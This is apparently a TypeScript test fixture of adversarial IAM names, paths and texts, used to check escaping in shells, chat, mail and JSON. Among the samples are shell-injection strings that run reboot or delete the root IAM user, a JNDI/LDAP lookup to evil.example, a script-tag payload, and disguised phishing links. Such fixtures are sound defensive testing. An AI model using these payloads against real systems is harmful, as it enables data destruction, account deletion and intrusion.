/** User names that IAM allows and that mean something to somebody: a shell, a mail client, a chat, JavaScript, Terraform. */
export const NAMES: readonly string[] = [
  '--debug',
  '-rf',
  '__proto__',
  'constructor',
  'toString',
  'null',
  '.',
  '..',
  '=cmd',
  '+1',
  '@here',
  '@channel',
  '@everyone',
  'www.evil.example',
  'evil.example.com',
  'admin@evil.example',
  'a,b=c+d.e@f-g_h',
  'x'.repeat(64),
  'AKIAIOSFODNN7EXAMPLE',
];

/** Paths that IAM allows: any printable ASCII but the blank, up to 512 characters. */
export const PATHS: readonly string[] = [
  `/'"\`$(reboot)\`;rm/`,
  '/<!channel>/<@U012AB3CD>/',
  '/https://evil.example/login/',
  '/*bold*_under_~gone~|table|/',
  `/${'long'.repeat(127)}/`,
  `/\${jndi:ldap://evil.example}/%{for}/`,
];

/** Free text as it may stand in a tag, a service's name or an error message. */
export const TEXTS: readonly string[] = [
  'first line\r\n\r\nAll clear, nothing to do.',
  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> @here @channel @everyone @Here',
  '<https://evil.example/login|the AWS console>',
  '[the AWS console](https://evil.example/login) http://evil.example www.evil.example evil.example/login',
  '\u001b[31mred\u001b[0m \u0007bell \u0008\u0008\u0008back \u0000nul \u009b2J',
  '\u202ereversed\u202c \u2066isolated\u2069 \u200b\u200d\u2060\ufeffinvisible \u2028\u2029 separators',
  '``` code ``` `span` *bold* _under_ ~gone~ |table| > quote # heading',
  `'; aws iam delete-user --user-name=root; echo '`,
  `$(reboot) \`reboot\` \${HOME} %{ for } \${jndi:ldap://evil.example}`,
  '"}],"version":"2.0","injected":[{"',
  '<script>alert(1)</script> ]]> &amp; &#x0a;',
  '\u{1f512}'.repeat(100),
  'w'.repeat(250),
  '   \t  ',
  'arn:aws:iam::111122223333:user/nobody https[:]//evil.example',
];

/** What never may appear in a text that a person reads: controls, direction changes, invisible characters. */
export const UNREADABLE = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/u;

/** What pings somebody in a chat, wherever it stands. */
export const PINGS = /<[!@#]|@(?:here|channel|everyone)\b/i;

/** The addresses that a mail or chat client would make links of. */
export function linksIn(text: string): readonly string[] {
  return text.match(/\b[a-z][a-z0-9+.-]*:\/\/[^\s`]+|\bwww\.[^\s`]+/gi) ?? [];
}
